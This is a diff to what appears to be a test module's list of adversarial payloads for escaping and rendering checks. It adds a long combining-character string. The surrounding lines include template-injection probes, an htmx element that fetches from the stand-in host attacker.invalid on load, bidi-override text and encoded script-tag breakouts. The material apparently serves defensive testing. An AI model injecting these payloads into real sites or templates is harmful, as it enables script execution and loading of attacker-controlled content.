@@ -46,6 +46,8 @@ PAYLOADS = (
     f"{{{{ 7 * 7 }}}} {{% raw %}} ${{{MARK}}} {{{{constructor.constructor('{MARK}')()}}}}",
     f"<div hx-get='http://attacker.invalid/' hx-trigger='load' hx-on:load='{MARK}'>x</div>",
     "\u202etxet dedrawkcab\u202c \u2066isolate\u2069 \u200f\u061c right to left \u05d0\u05d1\u05d2 \u0627\u0644\u0639",
+    # the second of these has no glyph in most fonts, so that the cluster gets wide and cannot be broken
+    "Z" + "\u0335\u0489\u0334" * 200 + " end",
     "Z" + "\u0335\u0301\u0323" * 200 + " \ufeff\u200b\u00ad\u2028\u2029 𝔸 😀‍👩‍👧 \ufffd end",
     "]]> --> <!-- %00 &lt;b&gt; &#x3c;script&#x3e; \\u003cscript\\u003e \\x3cscript\\x3e",
     "a" * 30_000,
